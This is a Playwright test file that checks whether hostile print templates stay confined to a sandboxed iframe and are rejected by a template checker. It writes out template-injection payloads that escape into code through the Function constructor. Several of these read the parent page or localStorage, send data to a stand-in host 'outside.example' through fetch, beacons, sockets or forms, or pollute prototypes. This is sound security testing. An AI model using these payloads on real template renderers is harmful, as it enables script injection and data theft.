import { expect, test, type Page } from '@playwright/test'
import { checkTemplate, type PrintJob } from '#core/printing'
import { loadForm } from './load-form.ts'
import { NO_FONTS, prepare } from './print-form.ts'
import { familyOfFour } from './sample-facts.ts'

// A template is code once it runs. The check lets none of these in; here they are put into the frame all the same.

const RUN = (code: string): string => `{{:"x".toString.constructor.call({},${JSON.stringify(code)})()}}`
const OUTSIDE = 'https://outside.example/x'

/** What a template might do, by name; each answers into `window.name` of the frame what it reached. */
const TEMPLATES: Readonly<Record<string, string>> = {
  'reads the page around it': RUN('top.document.body.textContent'),
  'changes the page around it': RUN('parent.document.title="reached"'),
  'leads the page away': RUN(`top.location="${OUTSIDE}"`),
  'leads itself about the site': RUN('location="/index.html"'),
  'reads what is stored': RUN('localStorage.getItem("madoguchi-terminal")'),
  'opens the database': RUN('indexedDB.open("madoguchi-sample")'),
  'asks the network': RUN(`fetch("${OUTSIDE}")`),
  'asks the site': RUN('fetch("/index.html").then(a=>a.text()).then(t=>parent.postMessage({type:"stolen",t},"*"))'),
  'sends a beacon': RUN(`navigator.sendBeacon("${OUTSIDE}","x")`),
  'opens a socket': RUN('new WebSocket("wss://outside.example/x")'),
  'opens a window': RUN(`open("${OUTSIDE}")`),
  'starts a worker': RUN('new Worker(URL.createObjectURL(new Blob(["1"])))'),
  'loads an image': `<img src="${OUTSIDE}.png">`,
  'loads a style sheet': `<link rel="stylesheet" href="${OUTSIDE}.css"><style>@import "${OUTSIDE}.css";</style>`,
  'loads a font': `<style>@font-face{font-family:q;src:url(${OUTSIDE}.woff2)}p{font-family:q}</style><p>q</p>`,
  'sends a form': `<form action="${OUTSIDE}" method="post" id="f"><input name="a" value="b"></form><img src="x" onerror="document.getElementById('f').submit()">`,
  'frames another page': `<iframe src="/index.html"></iframe><iframe src="${OUTSIDE}"></iframe><object data="${OUTSIDE}"></object>`,
  'refreshes itself away': `<meta http-equiv="refresh" content="0;url=${OUTSIDE}">`,
  'changes every prototype': RUN('Object.prototype.polluted=1;Array.prototype.map=null'),
}

const jobWith = async (template: string): Promise<PrintJob> => {
  const job = await prepare(loadForm('resident-change'), familyOfFour, NO_FONTS)
  if (!job.ok) throw new Error(JSON.stringify(job.problems))
  return { ...job.value, template }
}

/** Puts a job into a frame as the product does, waits, and takes the frame away; answers what it said meanwhile. */
const tryIn = (page: Page, job: PrintJob, wait: number): Promise<readonly string[]> =>
  page.evaluate(
    async ({ message, limit }) => {
      const frame = document.createElement('iframe')
      frame.setAttribute('sandbox', 'allow-scripts allow-modals')
      frame.src = '/print-frame.html'
      const said: string[] = []
      const ready = new Promise<void>((resolve) => {
        window.addEventListener('message', ({ source, data }: MessageEvent<{ type: string }>) => {
          if (source !== frame.contentWindow) return
          said.push(data.type)
          if (data.type === 'ready') resolve()
        })
      })
      document.body.append(frame)
      await ready
      frame.contentWindow?.postMessage(message, '*')
      await new Promise((resolve) => setTimeout(resolve, limit))
      frame.remove()
      return said
    },
    { message: { type: 'prepare', jobs: [job], fonts: [] }, limit: wait },
  )

test('what a hostile template does stays in the frame, and nothing leaves the machine', async ({ page }) => {
  const outside: string[] = []
  await page.route(/outside\.example/, (route) => {
    outside.push(route.request().url())
    return route.abort()
  })
  await page.goto('/')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const before = { url: page.url(), title: await page.title() }
  for (const [name, template] of Object.entries(TEMPLATES)) {
    await test.step(name, async () => {
      const said = await tryIn(page, await jobWith(template), 400)
      expect.soft(said, name).not.toContain('stolen')
      expect.soft({ url: page.url(), title: await page.title() }, name).toEqual(before)
      expect
        .soft(await page.evaluate(() => [Reflect.get({}, 'polluted'), typeof Array.prototype.map]), name)
        .toEqual([undefined, 'function'])
    })
  }
  expect(outside).toEqual([])
  expect(page.context().pages()).toHaveLength(1)
})

test('a template without end leaves the page at work and is gone with its frame after two seconds', async ({
  page,
}) => {
  await page.goto('/')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const job = await jobWith(RUN('for(;;){}'))
  const beats = page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        let count = 0
        const timer = setInterval(() => (count += 1), 50)
        setTimeout(() => {
          clearInterval(timer)
          resolve(count)
        }, 2_500)
      }),
  )
  expect(await tryIn(page, job, 2_000)).toEqual(['ready'])
  expect(await beats).toBeGreaterThan(20)
  await expect(page.locator('iframe')).toHaveCount(0)
  await expect.poll(() => page.frames().length).toBe(1)
  expect(await tryIn(page, await jobWith('<p>{{>number}}</p>'), 3_000)).toEqual(['ready', 'prepared'])
})

test('the check lets in none of them', () => {
  const { form } = loadForm('resident-change')
  for (const [name, template] of Object.entries({ ...TEMPLATES, loop: RUN('for(;;){}') }))
    expect(
      checkTemplate('template.html', template, form).some(({ code }) => code !== 'template-field-unused'),
      name,
    ).toBe(true)
})
